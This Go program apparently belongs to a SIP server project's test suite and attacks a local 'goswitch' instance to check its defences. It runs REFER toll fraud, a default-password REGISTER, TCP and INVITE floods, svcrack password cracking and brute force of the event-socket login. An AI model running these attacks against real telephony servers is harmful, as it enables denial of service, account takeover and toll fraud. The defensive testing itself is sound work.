// Command attack runs the attacks of issue 10 against a running goswitch and prints one line per
// attack: what was sent, what it achieved, and PASS/FAIL from the defender's view. scripts/attack.sh
// builds and runs it; see there for the flags.
//
// Every attack uses its own loopback source address, because a ban is per source and host-wide:
//
//	127.0.0.7 fake phone (registers 1000, answers the call)  127.0.0.8 REFER caller
//	127.0.0.5 TCP flood   127.0.0.2 fresh source checking TCP   127.0.0.3 svcrack (-b; towards a
//	non-loopback target svcrack's packets leave from the target's own address)
//	127.0.0.4 ESL brute force   127.0.0.6 INVITE flood   127.0.0.1 ESL control (ban list, cleanup)
package main

import (
	"bufio"
	"context"
	"crypto/rand"
	"encoding/hex"
	"flag"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/icholy/digest"
)

var (
	host      = flag.String("host", "auto", "goswitch SIP address (auto: 127.0.0.1, else the first local address whose internal port answers OPTIONS)")
	internal  = flag.Int("internal", 5060, "internal profile port")
	external  = flag.Int("external", 5080, "external profile port")
	eslAddr   = flag.String("esl", "127.0.0.1:8021", "event socket address")
	eslPass   = flag.String("esl-pass", "ClueCon", "event socket password (for the ban list and cleanup)")
	user      = flag.String("user", "1000", "extension to attack")
	pass      = flag.String("pass", "1234", "its (default) password")
	conns     = flag.Int("conns", 20000, "TCP flood: connections to open")
	rate      = flag.Int("invite-rate", 1000, "INVITE flood: INVITEs per second")
	secs      = flag.Int("invite-secs", 3, "INVITE flood: seconds")
	eslSecs   = flag.Int("esl-secs", 6, "ESL brute force: seconds")
	svRange   = flag.String("svcrack-range", "1-2000", "svcrack password range")
	only      = flag.String("only", "1,2,3,4,5,6", "attacks to run")
	keepBans  = flag.Bool("keep-bans", false, "leave the bans the attacks caused in place")
	childMode = flag.String("flood-child", "", "internal: open connections to this address and hold them")
	childSrc  = flag.String("flood-src", "", "internal")
	childN    = flag.Int("flood-n", 0, "internal")
)

func main() {
	flag.Parse()
	if *childMode != "" {
		floodChild(*childMode, *childSrc, *childN)
		return
	}
	h := resolveHost()
	if !h.IsValid() {
		fmt.Println("no goswitch answering OPTIONS on port", *internal, "(tried 127.0.0.1 and local addresses); use -host")
		os.Exit(2)
	}
	fmt.Printf("target: SIP %s (internal %d, external %d), ESL %s\n", h, *internal, *external, *eslAddr)
	run := map[string]bool{}
	for _, s := range strings.Split(*only, ",") {
		run[strings.TrimSpace(s)] = true
	}
	// Order of execution: the REFER call needs the REGISTER of attack 5; svcrack runs last but
	// one, ESL last, so that no ban they cause hides another attack's result.
	var lines = map[string]string{}
	if run["1"] || run["5"] {
		l1, l5 := referAttack(h)
		lines["1"], lines["5"] = l1, l5
	}
	if run["2"] {
		lines["2"] = tcpFlood(h)
	}
	if run["6"] {
		lines["6"] = inviteFlood(h)
	}
	if run["3"] {
		lines["3"] = svcrack(h)
	}
	if run["4"] {
		lines["4"] = eslBrute()
	}
	for _, k := range []string{"1", "2", "3", "4", "5", "6"} {
		if run[k] && lines[k] != "" {
			fmt.Println(lines[k])
		}
	}
	if out, ok := eslAPI("127.0.0.1", "ban list"); ok {
		fmt.Printf("ban list after the attacks:\n%s\n", indent(out))
		if !*keepBans && !strings.Contains(out, "-ERR") {
			r, _ := eslAPI("127.0.0.1", "ban del all")
			fmt.Println("cleanup: ban del all:", strings.TrimSpace(r))
		}
	}
}

func line(n, name, sent, result string, pass bool) string {
	v := "FAIL"
	if pass {
		v = "PASS"
	}
	return fmt.Sprintf("[%s] %-18s | sent: %s | result: %s | %s", n, name, sent, result, v)
}

func info(n, name, sent, result string) string {
	return fmt.Sprintf("[%s] %-18s | sent: %s | result: %s | INFO", n, name, sent, result)
}

func indent(s string) string {
	return "  " + strings.ReplaceAll(strings.TrimRight(s, "\n"), "\n", "\n  ")
}

// ---- SIP over UDP ----

type ua struct {
	conn *net.UDPConn
	dst  netip.AddrPort
	seq  int
}

func newUA(src string, dst netip.AddrPort) (*ua, error) {
	c, err := net.ListenUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(netip.MustParseAddr(src), 0)))
	if err != nil {
		return nil, err
	}
	return &ua{conn: c, dst: dst}, nil
}

func (u *ua) local() netip.AddrPort { return u.conn.LocalAddr().(*net.UDPAddr).AddrPort() }

func rnd() string {
	var b [6]byte
	rand.Read(b[:])
	return hex.EncodeToString(b[:])
}

type msg struct {
	raw   string
	first string
	hdr   map[string][]string
	body  string
}

func parse(raw string) *msg {
	head, body, _ := strings.Cut(raw, "\r\n\r\n")
	ls := strings.Split(head, "\r\n")
	m := &msg{raw: raw, first: ls[0], hdr: map[string][]string{}, body: body}
	compact := map[string]string{"v": "via", "f": "from", "t": "to", "i": "call-id", "m": "contact", "l": "content-length", "c": "content-type"}
	for _, l := range ls[1:] {
		k, v, ok := strings.Cut(l, ":")
		if !ok {
			continue
		}
		k = strings.ToLower(strings.TrimSpace(k))
		if c, ok := compact[k]; ok {
			k = c
		}
		m.hdr[k] = append(m.hdr[k], strings.TrimSpace(v))
	}
	return m
}

func (m *msg) get(k string) string {
	if v := m.hdr[strings.ToLower(k)]; len(v) > 0 {
		return v[0]
	}
	return ""
}

func (m *msg) code() int {
	if !strings.HasPrefix(m.first, "SIP/2.0 ") {
		return 0
	}
	n, _ := strconv.Atoi(strings.Fields(m.first)[1])
	return n
}

func (u *ua) send(s string) error {
	_, err := u.conn.WriteToUDPAddrPort([]byte(s), u.dst)
	return err
}

// read returns the next message within d (nil on timeout).
func (u *ua) read(d time.Duration) *msg {
	buf := make([]byte, 65536)
	u.conn.SetReadDeadline(time.Now().Add(d))
	n, _, err := u.conn.ReadFromUDP(buf)
	if err != nil {
		return nil
	}
	return parse(string(buf[:n]))
}

// final waits for the final response to callID/cseq, answering requests it sees with 200.
func (u *ua) final(callID string, cseq int, d time.Duration) *msg {
	end := time.Now().Add(d)
	for time.Now().Before(end) {
		m := u.read(time.Until(end))
		if m == nil {
			return nil
		}
		if m.code() == 0 {
			u.answer(m, 200, "")
			continue
		}
		if m.get("call-id") == callID && strings.HasPrefix(m.get("cseq"), strconv.Itoa(cseq)+" ") && m.code() >= 200 {
			return m
		}
	}
	return nil
}

// answer responds to a request received on u (to its source: the request's Via).
func (u *ua) answer(req *msg, code int, extra string) {
	resp := fmt.Sprintf("SIP/2.0 %d %s\r\n", code, map[int]string{200: "OK", 100: "Trying"}[code])
	for _, v := range req.hdr["via"] {
		resp += "Via: " + v + "\r\n"
	}
	to := req.get("to")
	if code > 100 && !strings.Contains(to, "tag=") {
		to += ";tag=" + rnd()
	}
	resp += "From: " + req.get("from") + "\r\nTo: " + to + "\r\nCall-ID: " + req.get("call-id") + "\r\nCSeq: " + req.get("cseq") + "\r\n" + extra
	if !strings.Contains(extra, "Content-Length") {
		resp += "Content-Length: 0\r\n\r\n"
	}
	u.send(resp)
}

func (u *ua) request(method, ruri, from, to, callID string, cseq int, extra, body string) string {
	u.seq++
	l := u.local()
	ct := ""
	if body != "" {
		ct = "Content-Type: application/sdp\r\n"
	}
	return fmt.Sprintf("%s %s SIP/2.0\r\nVia: SIP/2.0/UDP %s;branch=z9hG4bK%s;rport\r\nMax-Forwards: 70\r\nFrom: %s\r\nTo: %s\r\n"+
		"Call-ID: %s\r\nCSeq: %d %s\r\nContact: <sip:%s@%s>\r\n%s%sContent-Length: %d\r\n\r\n%s",
		method, ruri, l, rnd(), from, to, callID, cseq, method, "attacker", l, extra, ct, len(body), body)
}

func sdp(ip string) string {
	return "v=0\r\no=- 1 1 IN IP4 " + ip + "\r\ns=-\r\nc=IN IP4 " + ip + "\r\nt=0 0\r\nm=audio 40000 RTP/AVP 0 101\r\na=rtpmap:0 PCMU/8000\r\na=rtpmap:101 telephone-event/8000\r\n"
}

// register sends REGISTER for user with digest auth; returns the final code (0: no answer).
func (u *ua) register(user, pass, contact string, expires int) int {
	callID := "reg-" + rnd()
	ruri := "sip:" + u.dst.String()
	from := "<sip:" + user + "@" + u.dst.Addr().String() + ">;tag=" + rnd()
	to := "<sip:" + user + "@" + u.dst.Addr().String() + ">"
	extra := fmt.Sprintf("Contact: %s\r\nExpires: %d\r\n", contact, expires)
	req := strings.Replace(u.request("REGISTER", ruri, from, to, callID, 1, "", ""), "Contact: <sip:attacker@"+u.local().String()+">\r\n", extra, 1)
	u.send(req)
	m := u.final(callID, 1, 2*time.Second)
	if m == nil || m.code() != 401 {
		if m == nil {
			return 0
		}
		return m.code()
	}
	chal, err := digest.ParseChallenge(m.get("www-authenticate"))
	if err != nil {
		return -1
	}
	cred, _ := digest.Digest(chal, digest.Options{Method: "REGISTER", URI: ruri, Username: user, Password: pass, Cnonce: rnd(), Count: 1})
	req = strings.Replace(u.request("REGISTER", ruri, from, to, callID, 2, "Authorization: "+cred.String()+"\r\n", ""),
		"Contact: <sip:attacker@"+u.local().String()+">\r\n", extra, 1)
	u.send(req)
	if m = u.final(callID, 2, 2*time.Second); m == nil {
		return 0
	}
	return m.code()
}

func resolveHost() netip.Addr {
	var cands []netip.Addr
	if *host != "auto" {
		a, err := netip.ParseAddr(*host)
		if err != nil {
			return netip.Addr{}
		}
		return a
	}
	cands = append(cands, netip.MustParseAddr("127.0.0.1"))
	if as, err := net.InterfaceAddrs(); err == nil {
		for _, a := range as {
			if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() && !p.Addr().IsLoopback() {
				cands = append(cands, p.Addr())
			}
		}
	}
	for _, c := range cands {
		u, err := newUA("127.0.0.1", netip.AddrPortFrom(c, uint16(*internal)))
		if err != nil {
			continue
		}
		id := "probe-" + rnd()
		u.send(u.request("OPTIONS", "sip:"+netip.AddrPortFrom(c, uint16(*internal)).String(), "<sip:probe@attack>;tag="+rnd(), "<sip:probe@"+c.String()+">", id, 1, "", ""))
		m := u.final(id, 1, 700*time.Millisecond)
		u.conn.Close()
		if m != nil {
			return c
		}
	}
	return netip.Addr{}
}

// ---- 1 + 5: REFER toll fraud, default password ----

func referAttack(h netip.Addr) (string, string) {
	in := netip.AddrPortFrom(h, uint16(*internal))
	ex := netip.AddrPortFrom(h, uint16(*external))
	phone, err := newUA("127.0.0.7", in)
	if err != nil {
		return line("1", "refer-toll-fraud", "-", "cannot bind 127.0.0.7: "+err.Error(), false), ""
	}
	defer phone.conn.Close()
	contact := "<sip:" + *user + "@" + phone.local().String() + ">"
	code := phone.register(*user, *pass, contact, 120)
	l5 := info("5", "default-password", fmt.Sprintf("REGISTER %s password %s from 127.0.0.7 (loopback)", *user, *pass),
		fmt.Sprintf("%d %s", code, map[bool]string{true: "(registered: allowed from loopback by design)", false: "(refused)"}[code == 200]))
	if code != 200 {
		return line("1", "refer-toll-fraud", "-", fmt.Sprintf("setup failed: REGISTER %s got %d, no phone to call", *user, code), false), l5
	}
	defer phone.register(*user, *pass, contact, 0)

	// The fake phone answers every INVITE, acknowledges everything else, and at the end hangs up
	// the calls it answered (a transferred leg would otherwise stay up).
	stop := make(chan struct{})
	var answered []string // BYE requests for the dialogs it answered
	var amu sync.Mutex
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			m := phone.read(200 * time.Millisecond)
			if m == nil || m.code() != 0 {
				continue
			}
			switch strings.Fields(m.first)[0] {
			case "INVITE":
				body := sdp("127.0.0.7")
				tag := rnd()
				m.hdr["to"] = []string{m.get("to") + ";tag=" + tag}
				phone.answer(m, 200, fmt.Sprintf("Contact: %s\r\nContent-Type: application/sdp\r\nContent-Length: %d\r\n\r\n%s", contact, len(body), body))
				target := "sip:" + phone.dst.String()
				if ct := m.get("contact"); strings.Contains(ct, "<") {
					target = ct[strings.Index(ct, "<")+1 : strings.Index(ct, ">")]
				}
				amu.Lock()
				answered = append(answered, fmt.Sprintf("BYE %s SIP/2.0\r\nVia: SIP/2.0/UDP %s;branch=z9hG4bK%s;rport\r\nMax-Forwards: 70\r\n"+
					"From: %s\r\nTo: %s\r\nCall-ID: %s\r\nCSeq: 1 BYE\r\nContent-Length: 0\r\n\r\n",
					target, phone.local(), rnd(), m.get("to"), m.get("from"), m.get("call-id")))
				amu.Unlock()
			case "ACK":
			default:
				phone.answer(m, 200, "")
			}
		}
	}()
	defer func() {
		close(stop)
		wg.Wait()
		for _, bye := range answered {
			phone.send(bye)
			phone.read(500 * time.Millisecond)
		}
	}()

	caller, err := newUA("127.0.0.8", ex)
	if err != nil {
		return line("1", "refer-toll-fraud", "-", "cannot bind 127.0.0.8", false), l5
	}
	defer caller.conn.Close()
	callID := "refer-" + rnd()
	ruri := "sip:" + *user + "@" + ex.String()
	from := "<sip:attacker@evil.example>;tag=" + rnd()
	caller.send(caller.request("INVITE", ruri, from, "<"+ruri+">", callID, 1, "", sdp("127.0.0.8")))
	m := caller.final(callID, 1, 8*time.Second)
	if m == nil || m.code() != 200 {
		c := 0
		if m != nil {
			c = m.code()
		}
		return info("1", "refer-toll-fraud", "INVITE "+*user+" on external (unauthenticated)", fmt.Sprintf("INVITE got %d, no dialog to REFER in", c)), l5
	}
	to := m.get("to")
	target := ruri
	if ct := m.get("contact"); ct != "" {
		if i, j := strings.Index(ct, "<"), strings.Index(ct, ">"); i >= 0 && j > i {
			target = ct[i+1 : j]
		}
	}
	ack := caller.request("ACK", target, from, to, callID, 1, "", "")
	caller.send(ack)
	referTo := "sip:9196@" + h.String()
	caller.send(caller.request("REFER", target, from, to, callID, 2, "Refer-To: <"+referTo+">\r\nReferred-By: <sip:attacker@evil.example>\r\n", ""))
	r := caller.final(callID, 2, 5*time.Second)
	res := "no answer"
	refused := true
	if r != nil {
		res = r.first[len("SIP/2.0 "):]
		refused = r.code() >= 300
	}
	// Wait for the transfer's NOTIFY (sipfrag) for a few hundred ms, then hang up.
	if !refused {
		end := time.Now().Add(1500 * time.Millisecond)
		for time.Now().Before(end) {
			n := caller.read(time.Until(end))
			if n == nil {
				break
			}
			if strings.HasPrefix(n.first, "NOTIFY") {
				res += ", NOTIFY sipfrag " + strings.TrimSpace(strings.SplitN(n.body, "\r\n", 2)[0])
				caller.answer(n, 200, "")
				break
			}
			if n.code() == 0 {
				caller.answer(n, 200, "")
			}
		}
	}
	caller.send(caller.request("BYE", target, from, to, callID, 3, "", ""))
	caller.final(callID, 3, time.Second)
	return line("1", "refer-toll-fraud", "INVITE "+*user+" on external (unauthenticated, answered), then REFER Refer-To "+referTo, "REFER "+res, refused), l5
}

// ---- 2: TCP connection flood ----

func tcpFlood(h netip.Addr) string {
	dst := netip.AddrPortFrom(h, uint16(*internal)).String()
	exe, _ := os.Executable()
	// Two children of half the connections each: one process alone would run out of its own
	// file descriptors before goswitch.
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	type child struct {
		cmd *exec.Cmd
		in  io.WriteCloser
		out *bufio.Reader
	}
	var kids []child
	srcs := []string{"127.0.0.5", "127.0.0.9"}
	for i, src := range srcs {
		n := *conns / len(srcs)
		if i == 0 {
			n += *conns % len(srcs)
		}
		cmd := exec.CommandContext(ctx, exe, "-flood-child", dst, "-flood-src", src, "-flood-n", strconv.Itoa(n))
		in, _ := cmd.StdinPipe()
		out, _ := cmd.StdoutPipe()
		cmd.Stderr = os.Stderr
		if err := cmd.Start(); err != nil {
			return line("2", "tcp-conn-flood", "-", "cannot start flood child: "+err.Error(), false)
		}
		kids = append(kids, child{cmd, in, bufio.NewReader(out)})
	}
	opened, refusedAt := 0, []string{}
	for _, k := range kids {
		l, _ := k.out.ReadString('\n')
		f := strings.Fields(l)
		if len(f) >= 1 {
			n, _ := strconv.Atoi(f[0])
			opened += n
		}
		if len(f) > 1 {
			refusedAt = append(refusedAt, strings.Join(f[1:], " "))
		}
	}
	during := optionsTCP("127.0.0.2", dst)
	for _, k := range kids {
		k.in.Close()
		k.cmd.Wait()
	}
	time.Sleep(500 * time.Millisecond)
	after := optionsTCP("127.0.0.2", dst)
	stopped := ""
	if len(refusedAt) > 0 {
		stopped = " (stopped: " + strings.Join(refusedAt, "; ") + ")"
	}
	return line("2", "tcp-conn-flood", fmt.Sprintf("%d TCP connections to %s from 127.0.0.5/.9, held", *conns, dst),
		fmt.Sprintf("%d opened%s; OPTIONS over a fresh TCP connection from 127.0.0.2: during flood %s, after %s", opened, stopped, during, after),
		strings.HasPrefix(during, "200") && strings.HasPrefix(after, "200"))
}

func floodChild(dst, src string, n int) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}, Timeout: time.Second}
	var cs []net.Conn
	why := ""
	end := time.Now().Add(25 * time.Second)
	fails := 0
	for len(cs) < n && time.Now().Before(end) {
		c, err := d.Dial("tcp", dst)
		if err != nil {
			fails++
			if fails >= 3 {
				why = fmt.Sprintf("after %d: %v", len(cs), err)
				break
			}
			continue
		}
		cs = append(cs, c)
	}
	fmt.Println(len(cs), why)
	io.Copy(io.Discard, os.Stdin) // hold until the parent closes stdin
	for _, c := range cs {
		c.Close()
	}
}

func optionsTCP(src, dst string) string {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}, Timeout: 2 * time.Second}
	c, err := d.Dial("tcp", dst)
	if err != nil {
		return "connect failed (" + shortErr(err) + ")"
	}
	defer c.Close()
	l := c.LocalAddr().String()
	id := "tcp-" + rnd()
	fmt.Fprintf(c, "OPTIONS sip:%s;transport=tcp SIP/2.0\r\nVia: SIP/2.0/TCP %s;branch=z9hG4bK%s\r\nMax-Forwards: 70\r\nFrom: <sip:probe@attack>;tag=%s\r\n"+
		"To: <sip:%s>\r\nCall-ID: %s\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n", dst, l, rnd(), rnd(), dst, id)
	c.SetReadDeadline(time.Now().Add(3 * time.Second))
	st, err := bufio.NewReader(c).ReadString('\n')
	if err != nil {
		return "no answer (" + shortErr(err) + ")"
	}
	return strings.TrimPrefix(strings.TrimSpace(st), "SIP/2.0 ")
}

func shortErr(err error) string {
	s := err.Error()
	if i := strings.LastIndex(s, ": "); i >= 0 {
		return s[i+2:]
	}
	return s
}

// ---- 6: INVITE flood ----

func inviteFlood(h netip.Addr) string {
	dst := netip.AddrPortFrom(h, uint16(*external))
	u, err := newUA("127.0.0.6", dst)
	if err != nil {
		return line("6", "invite-flood", "-", "cannot bind 127.0.0.6", false)
	}
	defer u.conn.Close()
	type result struct {
		code       int
		retryAfter bool
	}
	var mu sync.Mutex
	results := map[string]result{}
	done := make(chan struct{})
	go func() {
		defer close(done)
		buf := make([]byte, 65536)
		for {
			u.conn.SetReadDeadline(time.Now().Add(3 * time.Second))
			n, _, err := u.conn.ReadFromUDP(buf)
			if err != nil {
				return
			}
			m := parse(string(buf[:n]))
			c := m.code()
			if c == 0 {
				u.answer(m, 200, "")
				continue
			}
			if c < 200 || !strings.HasSuffix(m.get("cseq"), "INVITE") {
				continue
			}
			id := m.get("call-id")
			mu.Lock()
			_, seen := results[id]
			results[id] = result{c, m.get("retry-after") != ""}
			mu.Unlock()
			// ACK the final response (hop by hop for non-2xx: the INVITE's branch); BYE a 2xx.
			via := m.get("via")
			ack := fmt.Sprintf("ACK sip:9196@%s SIP/2.0\r\nVia: %s\r\nMax-Forwards: 70\r\nFrom: %s\r\nTo: %s\r\nCall-ID: %s\r\nCSeq: 1 ACK\r\nContent-Length: 0\r\n\r\n",
				dst, via, m.get("from"), m.get("to"), id)
			u.send(ack)
			if c < 300 && !seen {
				u.send(fmt.Sprintf("BYE sip:9196@%s SIP/2.0\r\nVia: SIP/2.0/UDP %s;branch=z9hG4bK%s;rport\r\nMax-Forwards: 70\r\nFrom: %s\r\nTo: %s\r\nCall-ID: %s\r\nCSeq: 2 BYE\r\nContent-Length: 0\r\n\r\n",
					dst, u.local(), rnd(), m.get("from"), m.get("to"), id))
			}
		}
	}()
	total := *rate * *secs
	interval := time.Second / time.Duration(*rate)
	start := time.Now()
	body := sdp("127.0.0.6")
	for i := 0; i < total; i++ {
		if d := time.Until(start.Add(time.Duration(i) * interval)); d > 0 {
			time.Sleep(d)
		}
		ruri := "sip:9196@" + dst.String()
		u.send(u.request("INVITE", ruri, "<sip:flood@evil.example>;tag="+rnd(), "<"+ruri+">", fmt.Sprintf("flood-%d-%s", i, rnd()), 1, "", body))
	}
	sent := time.Since(start)
	<-done
	codes := map[int]int{}
	withRA, withoutRA := 0, 0
	mu.Lock()
	for _, r := range results {
		codes[r.code]++
		if r.code == 503 {
			if r.retryAfter {
				withRA++
			} else {
				withoutRA++
			}
		}
	}
	answered := len(results)
	mu.Unlock()
	var parts []string
	var ks []int
	for k := range codes {
		ks = append(ks, k)
	}
	sort.Ints(ks)
	for _, k := range ks {
		parts = append(parts, fmt.Sprintf("%d x%d", k, codes[k]))
	}
	ch := "?"
	if out, ok := eslAPI("127.0.0.1", "show channels count"); ok {
		ch = strings.TrimSpace(out)
	}
	return line("6", "invite-flood", fmt.Sprintf("%d INVITEs to 9196 on external at %d/s (%.1fs)", total, *rate, sent.Seconds()),
		fmt.Sprintf("%s; 503 with Retry-After %d, without %d; unanswered %d; channels 3 s after: %s", strings.Join(parts, ", "), withRA, withoutRA, total-answered, ch),
		withoutRA == 0)
}

// ---- 3: svcrack ----

func svcrack(h netip.Addr) string {
	bin, err := exec.LookPath("svcrack")
	if err != nil {
		return line("3", "svcrack", "-", "svcrack not installed (apt-get install sipvicious)", false)
	}
	home, _ := os.MkdirTemp("", "attack-svcrack")
	defer os.RemoveAll(home)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	lp := freeUDPPort()
	cmd := exec.CommandContext(ctx, bin, "-u"+*user, "-r"+*svRange, "-p", strconv.Itoa(*internal), "-b", "127.0.0.3",
		"-P", strconv.Itoa(lp), "--maximumtime=3", "-vv", h.String())
	cmd.Env = append(os.Environ(), "HOME="+home)
	start := time.Now()
	out, _ := cmd.CombinedOutput()
	o := string(out)
	tries := strings.Count(o, "trying ")
	found := regexp.MustCompile(`The password for \S+ is (\S+)`).FindStringSubmatch(o)
	res := "found nothing"
	if found != nil {
		res = "FOUND password " + found[1]
	}
	// svcrack binds -b but the kernel may pick another source towards a non-loopback target:
	// look for whatever source the internal profile banned for auth failures.
	banned := "ban list unavailable"
	if bl, ok := eslAPI("127.0.0.1", "ban list"); ok && !strings.Contains(bl, "-ERR") {
		banned = "svcrack's source not banned"
		for _, l := range strings.Split(bl, "\n") {
			if f := strings.Fields(l); len(f) > 3 && f[2] == "auth-failures" && f[3] == "sip/internal" {
				banned = "its source " + f[0] + " banned"
			}
		}
	}
	if st, ok := eslAPI("127.0.0.1", "sofia status profile internal"); ok {
		if m := regexp.MustCompile(`AUTH-FAILURES\s+(\d+)`).FindStringSubmatch(st); m != nil {
			banned += ", goswitch counted " + m[1] + " auth failures"
		}
	}
	return line("3", "svcrack", fmt.Sprintf("svcrack -u%s -r%s from 127.0.0.3 (%d guesses sent in %.1fs)", *user, *svRange, tries, time.Since(start).Seconds()),
		res+"; "+banned, found == nil)
}

func freeUDPPort() int {
	c, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 3)})
	if err != nil {
		return 5099
	}
	defer c.Close()
	return c.LocalAddr().(*net.UDPAddr).Port
}

// ---- 4: ESL brute force ----

func eslBrute() string {
	var tries, closed, cracked atomic.Int64
	var firstClosed atomic.Int64
	firstClosed.Store(-1)
	end := time.Now().Add(time.Duration(*eslSecs) * time.Second)
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; time.Now().Before(end); i++ {
				switch eslTry("127.0.0.4", fmt.Sprintf("guess%d-%d", w, i), time.Until(end)) {
				case "closed":
					if closed.Add(1) == 1 {
						firstClosed.Store(tries.Load())
					}
					time.Sleep(10 * time.Millisecond)
				case "accepted":
					cracked.Add(1)
					tries.Add(1)
				case "invalid":
					tries.Add(1)
				}
			}
		}(w)
	}
	wg.Wait()
	right := eslTry("127.0.0.4", *eslPass, 3*time.Second)
	other := eslTry("127.0.0.1", *eslPass, 3*time.Second)
	locked := ""
	if firstClosed.Load() >= 0 {
		locked = fmt.Sprintf("source closed at connect after %d tries (%d connections refused)", firstClosed.Load(), closed.Load())
	} else {
		locked = "never locked out"
	}
	rate := float64(tries.Load()) / float64(*eslSecs)
	return line("4", "esl-brute-force", fmt.Sprintf("8 parallel connect+auth loops from 127.0.0.4 to %s for %ds", *eslAddr, *eslSecs),
		fmt.Sprintf("%d wrong passwords answered (%.0f/s); %s; right password from 127.0.0.4 afterwards: %s; from 127.0.0.1: %s",
			tries.Load(), rate, locked, right, other),
		firstClosed.Load() >= 0 && firstClosed.Load() <= 20 && right != "accepted" && other == "accepted")
}

// eslTry connects from src and sends auth pass: "accepted", "invalid", "closed" (no banner) or "error".
func eslTry(src, pass string, d time.Duration) string {
	if d <= 0 {
		return "error"
	}
	d = 3 * time.Second
	dl := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}, Timeout: d}
	c, err := dl.Dial("tcp", *eslAddr)
	if err != nil {
		return "error"
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(d))
	r := bufio.NewReader(c)
	l, err := r.ReadString('\n')
	if ne, ok := err.(net.Error); ok && ne.Timeout() {
		return "error"
	}
	if err != nil || !strings.Contains(l, "auth/request") {
		return "closed"
	}
	r.ReadString('\n')
	fmt.Fprintf(c, "auth %s\n\n", pass)
	for {
		l, err := r.ReadString('\n')
		if err != nil {
			return "closed"
		}
		if strings.HasPrefix(l, "Reply-Text: ") {
			if strings.Contains(l, "+OK") {
				return "accepted"
			}
			return "invalid"
		}
	}
}

// eslAPI runs one api command over the event socket from src.
func eslAPI(src, cmd string) (string, bool) {
	dl := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}, Timeout: 2 * time.Second}
	c, err := dl.Dial("tcp", *eslAddr)
	if err != nil {
		return "", false
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(5 * time.Second))
	r := bufio.NewReader(c)
	readFrame := func() (map[string]string, string, error) {
		h := map[string]string{}
		for {
			l, err := r.ReadString('\n')
			if err != nil {
				return nil, "", err
			}
			l = strings.TrimRight(l, "\n")
			if l == "" {
				break
			}
			k, v, _ := strings.Cut(l, ": ")
			h[k] = v
		}
		body := ""
		if n, _ := strconv.Atoi(h["Content-Length"]); n > 0 {
			b := make([]byte, n)
			if _, err := io.ReadFull(r, b); err != nil {
				return nil, "", err
			}
			body = string(b)
		}
		return h, body, nil
	}
	if _, _, err := readFrame(); err != nil {
		return "", false
	}
	fmt.Fprintf(c, "auth %s\n\n", *eslPass)
	if h, _, err := readFrame(); err != nil || !strings.Contains(h["Reply-Text"], "+OK") {
		return "", false
	}
	fmt.Fprintf(c, "api %s\n\n", cmd)
	for {
		h, body, err := readFrame()
		if err != nil {
			return "", false
		}
		if h["Content-Type"] == "api/response" {
			return body, true
		}
	}
}
